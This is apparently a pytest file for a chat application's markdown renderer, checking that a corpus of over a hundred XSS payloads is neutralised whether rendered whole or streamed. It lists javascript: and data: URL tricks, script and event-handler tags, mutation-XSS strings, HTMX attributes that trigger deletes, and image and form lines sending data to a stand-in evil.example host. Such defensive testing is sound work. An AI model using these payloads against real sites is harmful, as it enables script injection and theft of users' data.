"""The one render function for untrusted text: markdown, highlighted code, and an XSS corpus.

Every payload goes through ``render_markdown`` (as a user message or a model answer would) and
through ``StreamRender`` a character at a time (as a streaming answer is), and the output is
parsed: only the allow-listed tags and attributes survive, no event handler, ``style`` or ``hx-*``
attribute, no URL with a scheme other than http(s)/mailto, and no image is ever loaded.
"""

from __future__ import annotations

import itertools
import re
from html.parser import HTMLParser

import pytest

from conversations.render import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, StreamRender, render_markdown
from tests.helpers import case_id

SAFE_SCHEMES = {"http", "https", "mailto"}

SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "%6Aavascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "\x01javascript:alert(1)",
]
LINK_FORMS = [
    "[click]({url})",
    '[click]({url} "title")',
    "[click][ref]\n\n[ref]: {url}",
    "<{url}>",
    "![image]({url})",
]
HTML_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="http://evil.example/leak?d=secret">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<marquee onstart=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example><button>go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<p title="</p><script>alert(1)</script>">',
    "<img src=`x`onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<xmp><script>alert(1)</script></xmp>",
]
HTMX = [
    '<div hx-get="/settings/keys" hx-trigger="load" hx-swap="outerHTML">x</div>',
    '<button hx-post="/c/1/delete" hx-trigger="load">x</button>',
    '<span data-hx-get="/c/1/delete" data-hx-trigger="load">x</span>',
    '<div hx-on:click="alert(1)">x</div>',
    '<div hx-on::load="alert(1)">x</div>',
    '<div hx-ext="ws" ws-connect="/ws/c/1/">x</div>',
    "<form ws-send><input name=action value=send></form>",
    '<a hx-boost="true" href="/">x</a>',
    '<div hx-vals=\'{"action": "stop"}\' hx-trigger="load">x</div>',
    '<div hx-swap-oob="true" id="composer">taken over</div>',
]
MARKDOWN = [
    '```"><script>alert(1)</script>\nx\n```',
    "```python onload=alert(1)\nprint(1)\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "[a](<javascript:alert(1)>)",
    '[a](javascript:alert(1)"onmouseover="alert(1))',
    '![x](x" onerror="alert(1))',
    "[![x](javascript:alert(1))](javascript:alert(1))",
    '[x](#" onclick="alert(1))',
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "> <script>alert(1)</script>",
    "* [x](javascript:alert(1))\n* <b onmouseover=alert(1)>b</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "**<img src=x onerror=alert(1)>**",
    '[x](http://ok.example/" onclick="alert(1))',
    '<http://ok.example/" onclick="alert(1)>',
    "<mailto:a@b.example?subject=<script>alert(1)</script>>",
    "[x]( javascript:alert(1) )",
    "[x](\\javascript:alert(1))",
    "[x](//evil.example/%0ajavascript:alert(1))",
]
CORPUS = (
    [form.format(url=url) for url, form in itertools.product(SCHEMES, LINK_FORMS)]
    + HTML_TAGS
    + HTMX
    + MARKDOWN
)


class Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs) -> None:
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def parse(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    collector = Collector()
    collector.feed(html)
    collector.close()
    return collector.tags


def scheme_of(url: str) -> str | None:
    """The scheme a browser would see (it drops ASCII whitespace and controls first); None for a
    relative URL such as ``%6Aavascript:x``, which resolves under the site's own origin."""
    match = re.match(r"([a-z][a-z0-9+.-]*):", "".join(ch for ch in url if ch > " ").lower())
    return match.group(1) if match else None


def test_it_has_a_corpus_of_at_least_100_distinct_payloads() -> None:
    assert len(set(CORPUS)) >= 100


def streamed(text: str) -> str:
    """Every partial HTML a viewer is sent while ``text`` streams in a character at a time, after
    a few blocks (which are then finished and kept) and before more."""
    render = StreamRender()
    return "".join(str(render.add(ch)) for ch in f"Intro.\n\n- a\n- b\n\n{text}\n\nAfter.\n\nEnd.\n")


def whole(text: str) -> str:
    return str(render_markdown(text))


@pytest.mark.parametrize("render", [whole, streamed])
@pytest.mark.parametrize("payload", CORPUS, ids=[case_id(p) for p in CORPUS])
def test_it_neutralises_the_payload(payload: str, render) -> None:
    html = render(payload)
    for tag, attrs in parse(html):
        assert tag in ALLOWED_TAGS, (tag, html)
        assert tag not in {"img", "script", "iframe", "svg", "style", "form", "input", "button"}
        for name, value in attrs:
            assert not name.startswith(("on", "hx-", "data-hx", "ws-")), (name, html)
            assert name != "style"
            allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel", "class"}
            assert name in allowed, (tag, name, html)
            if name == "href":
                assert scheme_of(value or "") in SAFE_SCHEMES | {None}, (value, html)
            if tag == "a" and name == "rel":
                assert value == "noopener noreferrer nofollow"
    assert "<script" not in html.lower()


def test_it_renders_markdown_and_highlights_code() -> None:
    html = str(
        render_markdown("# Title\n\n**bold** _it_ ~~gone~~\n\n```python\ndef f(x):\n    return x\n```")
    )
    assert "<h1>Title</h1>" in html and "<strong>bold</strong>" in html and "<s>gone</s>" in html
    assert '<pre class="code"><code><span class="k">def</span>' in html


def test_it_turns_images_into_links_that_load_nothing() -> None:
    html = str(render_markdown("![chart](https://evil.example/leak.png?d=secret)"))
    assert "<img" not in html
    assert (
        '<a href="https://evil.example/leak.png?d=secret" rel="noopener noreferrer nofollow">chart</a>'
        in html
    )


def test_it_keeps_safe_links_with_rel() -> None:
    html = str(render_markdown("[docs](https://example.org/a?b=1) and <mailto:x@example.org>"))
    assert '<a href="https://example.org/a?b=1" rel="noopener noreferrer nofollow">docs</a>' in html
    assert 'href="mailto:x@example.org"' in html


def test_it_renders_an_unfinished_stream_safely() -> None:
    partial = "Here is code:\n\n```html\n<script>alert(1)</script>\n<img src=x onerror="
    html = str(render_markdown(partial))
    assert "<script" not in html and "<img" not in html
    assert '<span class="nt">script</span>' in html  # shown as highlighted code
